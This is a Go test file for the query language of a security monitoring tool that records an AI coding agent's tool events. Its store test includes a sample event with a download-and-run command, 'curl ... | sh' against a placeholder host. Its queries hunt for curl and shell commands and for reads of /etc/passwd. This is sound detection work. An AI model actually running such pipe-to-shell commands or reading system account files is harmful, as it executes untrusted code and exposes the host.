package query

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/store"
)

func TestParse(t *testing.T) {
	lm := func(name string, op store.Op, v string) store.LabelMatcher {
		return store.LabelMatcher{Name: name, Op: op, Value: v}
	}
	cases := []struct {
		name string
		q    string
		want store.Filter
	}{
		{"empty", ``, store.Filter{}},
		{"empty selector", `{}`, store.Filter{}},
		{"selector", `{project="shop", tool="Bash"}`, store.Filter{Labels: []store.LabelMatcher{
			lm(store.ColProject, store.OpEq, "shop"), lm(store.ColTool, store.OpEq, "Bash")}}},
		{"all ops", `{event=~"file_.*", hook_event!="Stop", session_id!~"a.*", host="h"}`, store.Filter{Labels: []store.LabelMatcher{
			lm(store.ColEventType, store.OpRe, "file_.*"), lm(store.ColHookEvent, store.OpNe, "Stop"),
			lm(store.ColSession, store.OpNre, "a.*"), lm(store.ColHost, store.OpEq, "h")}}},
		{"service matches", `{service="claude-telemetry", stream="events"}`, store.Filter{}},
		{"service regex", `{service=~"claude-.*"}`, store.Filter{}},
		{"other service", `{service="other"}`, store.Filter{None: true}},
		{"line filters", `{tool="Bash"} |= "curl" != "localhost" |~ "https?://" !~ "example\\.com"`, store.Filter{
			Labels: []store.LabelMatcher{lm(store.ColTool, store.OpEq, "Bash")},
			Lines: []store.LineFilter{{Op: store.LineContains, Value: "curl"}, {Op: store.LineNotContains, Value: "localhost"},
				{Op: store.LineMatch, Value: "https?://"}, {Op: store.LineNotMatch, Value: `example\.com`}}}},
		{"raw string", "|~ `\\d+\\.sh`", store.Filter{Lines: []store.LineFilter{{Op: store.LineMatch, Value: `\d+\.sh`}}}},
		{"no selector", `|= "curl"`, store.Filter{Lines: []store.LineFilter{{Op: store.LineContains, Value: "curl"}}}},
		{"json filters", `{project="shop"} | json | action_details_command=~".*sh" and security_flags_outside_project_scope="true", outcome_duration_ms > 1000`,
			store.Filter{
				Labels: []store.LabelMatcher{lm(store.ColProject, store.OpEq, "shop")},
				Fields: []store.FieldFilter{
					{Field: "action_details_command", Op: store.OpRe, Value: ".*sh"},
					{Field: "security_flags_outside_project_scope", Op: store.OpEq, Value: "true"},
					{Field: "outcome_duration_ms", Op: store.OpGt, Value: "1000", Numeric: true},
				}}},
		{"numeric eq", `| json | outcome_exit_code == 1 | outcome_exit_code != 0`, store.Filter{Fields: []store.FieldFilter{
			{Field: "outcome_exit_code", Op: store.OpEq, Value: "1", Numeric: true},
			{Field: "outcome_exit_code", Op: store.OpNe, Value: "0", Numeric: true}}}},
		{"dotted field", `| json | action_details.file_path="/etc/passwd"`, store.Filter{Fields: []store.FieldFilter{
			{Field: "action_details.file_path", Op: store.OpEq, Value: "/etc/passwd"}}}},
		{"label filter on stream label", `{project="shop"} | tool="Bash" | session_id="s1"`, store.Filter{Labels: []store.LabelMatcher{
			lm(store.ColProject, store.OpEq, "shop"), lm(store.ColTool, store.OpEq, "Bash"), lm(store.ColSession, store.OpEq, "s1")}}},
		{"metadata filter", `| event_id="abc"`, store.Filter{Fields: []store.FieldFilter{{Field: "id", Op: store.OpEq, Value: "abc"}}}},
		{"json then text", `| json |= "x"`, store.Filter{Lines: []store.LineFilter{{Op: store.LineContains, Value: "x"}}}},
		{"unicode", `|= "naïve ✓"`, store.Filter{Lines: []store.LineFilter{{Op: store.LineContains, Value: "naïve ✓"}}}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got, err := Parse(tc.q, Options{})
			if err != nil {
				t.Fatal(err)
			}
			if !reflect.DeepEqual(got, tc.want) {
				t.Fatalf("Parse(%s)\n got %+v\nwant %+v", tc.q, got, tc.want)
			}
		})
	}
}

func TestParseErrors(t *testing.T) {
	cases := []struct {
		name, q string
		col     int
		msg     string
	}{
		{"unknown label", `{colour="red"}`, 2, `unknown stream label "colour"`},
		{"missing value", `{project=}`, 10, "expected a quoted value"},
		{"unquoted value", `{project=shop}`, 10, "expected a quoted value"},
		{"bad operator", `{project>"a"}`, 9, "expected = != =~ or !~"},
		{"unclosed selector", `{project="a"`, 13, "expected , or }"},
		{"unterminated string", `|= "curl`, 4, "unterminated string"},
		{"unterminated raw", "|= `curl", 4, "unterminated raw string"},
		{"bad regex", `|~ "(("`, 1, "bad regex"},
		{"bad label regex", `{tool=~"[a"}`, 2, "bad regex"},
		{"line filter without string", `|= 42`, 4, "expected a quoted string"},
		{"or in line filters", `|= "a" or "b"`, 8, `"or" between line filters`},
		{"or in label filters", `| json | a="1" or b="2"`, 16, `"or" between label filters`},
		{"field without json", `{project="a"} | action_details_command="ls"`, 17, "add | json"},
		{"logfmt", `| logfmt`, 3, "| logfmt is not supported"},
		{"json params", `| json cmd="action_details.command"`, 3, "| json with parameters"},
		{"metric", `count_over_time({project="a"}[5m])`, 1, "metric queries"},
		{"string with gt", `| json | a > "1"`, 14, "needs a number"},
		{"regex with number", `| json | a =~ 1`, 15, "needs a quoted string"},
		{"double eq string", `| json | a == "x"`, 15, "== needs a number"},
		{"stray token", `{project="a"} "x"`, 15, "expected a line filter"},
		{"bad char", `{project="a"} # x`, 15, "unexpected '#'"},
		{"bad number", `| json | a > 1.2.3`, 14, "bad number"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			_, err := Parse(tc.q, Options{})
			if err == nil {
				t.Fatalf("Parse(%s) succeeded", tc.q)
			}
			var pe *Error
			if !errors.As(err, &pe) || !errors.Is(err, ErrSyntax) {
				t.Fatalf("error %v is not a *query.Error", err)
			}
			col := len([]rune(tc.q[:pe.Pos])) + 1
			if col != tc.col || !strings.Contains(pe.Msg, tc.msg) {
				t.Fatalf("error at column %d %q, want column %d containing %q\n%v", col, pe.Msg, tc.col, tc.msg, err)
			}
		})
	}
}

func TestErrorShowsPosition(t *testing.T) {
	_, err := Parse(`{project="shop" tool="Bash"}`, Options{})
	want := "query syntax error at column 17: expected , or } in the stream selector, got \"tool\"\n  {project=\"shop\" tool=\"Bash\"}\n                  ^"
	if err == nil || err.Error() != want {
		t.Fatalf("got\n%v\nwant\n%s", err, want)
	}
}

// TestQueriesOnStore runs parsed queries against a real store: the query
// language end to end.
func TestQueriesOnStore(t *testing.T) {
	s, err := store.Open(filepath.Join(t.TempDir(), "vigil.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	base := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)
	var recs []store.Record
	add := func(id, project, tool, typ, cmd string, outside bool, dur int64) {
		e := &event.Event{ID: id, Timestamp: base.Add(time.Duration(len(recs)) * time.Minute), Project: project,
			ToolName: tool, EventType: typ, HookEvent: "PostToolUse", SessionID: "s-" + project,
			Action:   event.Action{Command: cmd},
			Security: event.Security{OutsideProjectScope: outside, Redactions: []string{}},
			Outcome:  &event.Outcome{Success: true, DurationMS: dur}}
		js, _ := json.Marshal(e)
		recs = append(recs, store.Record{Event: e, JSON: js})
	}
	add("1", "shop", "Bash", event.TypeCommand, "curl -s https://x.example/i.sh | sh", true, 2500)
	add("2", "shop", "Bash", event.TypeCommand, "npm test", false, 900)
	add("3", "shop", "Read", event.TypeFileRead, "", true, 3)
	add("4", "blog", "Bash", event.TypeCommand, "curl localhost:8080", false, 40)
	if _, err := s.Append(context.Background(), recs); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		q    string
		want []string
	}{
		{`{project="shop", tool="Bash"} |= "curl"`, []string{"1"}},
		{`{tool="Bash"} |= "curl" != "localhost"`, []string{"1"}},
		{`{event=~"file_.*|command_.*"} | json | security_flags_outside_project_scope="true"`, []string{"3", "1"}},
		{`{service="claude-telemetry"} | json | outcome_duration_ms >= 900`, []string{"2", "1"}},
		{`{service="nope"}`, nil},
		{`| json | action_details.command=~"npm .*"`, []string{"2"}},
		{`{project!="shop"} |~ "curl [a-z]+:[0-9]+"`, []string{"4"}},
		{`| session_id="s-blog"`, []string{"4"}},
	}
	for _, tc := range cases {
		t.Run(tc.q, func(t *testing.T) {
			f, err := Parse(tc.q, Options{})
			if err != nil {
				t.Fatal(err)
			}
			rows, err := s.Query(context.Background(), f)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, r := range rows {
				got = append(got, r.ID)
			}
			if !slices.Equal(got, tc.want) {
				t.Fatalf("got %v, want %v", got, tc.want)
			}
		})
	}
}

func FuzzParse(f *testing.F) {
	for _, seed := range []string{
		`{project="shop", tool="Bash"} |= "curl"`,
		`{event=~"file_.*"} | json | action_details_command=~".*sh" and outcome_exit_code != 0`,
		"|~ `a|b` !~ \"c\"", `{`, `| json |`, `{a="\"}`, `| x > -1e9`,
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, q string) {
		flt, err := Parse(q, Options{})
		if err != nil {
			var pe *Error
			if !errors.As(err, &pe) {
				t.Fatalf("error %v is not a *query.Error", err)
			}
			if pe.Pos < 0 || pe.Pos > len(q) {
				t.Fatalf("position %d outside the query (len %d)", pe.Pos, len(q))
			}
			_ = err.Error()
			return
		}
		_ = fmt.Sprint(flt)
	})
}
